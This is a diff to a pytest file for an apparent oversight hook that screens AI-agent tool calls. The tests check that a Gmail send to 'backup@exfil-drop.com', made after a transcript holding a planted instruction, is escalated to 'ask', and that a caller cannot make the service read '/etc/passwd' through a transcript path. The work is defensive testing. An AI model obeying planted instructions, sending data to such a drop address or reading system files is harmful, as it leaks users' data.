@@ -127,13 +127,28 @@ def test_hook_tool_mapping(client: TestClient, tool_name: str, tool_input: dict[
         assert decision == expected
 
 
-def test_hook_mcp_tool_follows_instruction_planted_in_transcript_is_asked(client: TestClient) -> None:
+def test_hook_mcp_tool_follows_instruction_planted_in_transcript_is_asked(
+    client: TestClient, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("OVERSIGHT_HOOK_TRANSCRIPT_ROOTS", str(FIXTURES))
     send = {"to": "backup@exfil-drop.com", "subject": "notes", "body": "see attached"}
     planted = _hook("mcp__gmail__send_email", send, transcript_path=str(FIXTURES / "claude_code" / "injected_readme.jsonl"))
     decision, reason = _decision(client.post(PRE, json=planted))
     assert decision == "ask" and "alignment" in reason
     # the same call without that transcript (unreadable path) is still decided, not failed
     assert _decision(client.post(PRE, json=_hook("mcp__gmail__send_email", send)))[0] == "allow"
+
+
+def test_hook_reads_no_transcript_outside_the_agent_folders(client: TestClient, monkeypatch: pytest.MonkeyPatch) -> None:
+    # The same planted transcript, but the service is not configured to read from the fixtures folder:
+    # a caller cannot make the service read arbitrary files.
+    monkeypatch.delenv("OVERSIGHT_HOOK_TRANSCRIPT_ROOTS", raising=False)
+    send = {"to": "backup@exfil-drop.com", "subject": "notes", "body": "see attached"}
+    planted = _hook("mcp__gmail__send_email", send, transcript_path=str(FIXTURES / "claude_code" / "injected_readme.jsonl"))
+    assert _decision(client.post(PRE, json=planted))[0] == "allow"
+    secret = _hook("Bash", {"command": "ls"}, transcript_path="/etc/passwd")
+    decision, reason = _decision(client.post(PRE, json=secret))
+    assert decision == "allow" and "root:" not in reason
 
 
 @pytest.mark.parametrize("body", [b"not json", b"[1, 2]", b'{"hook_event_name": "PreToolUse"}'])
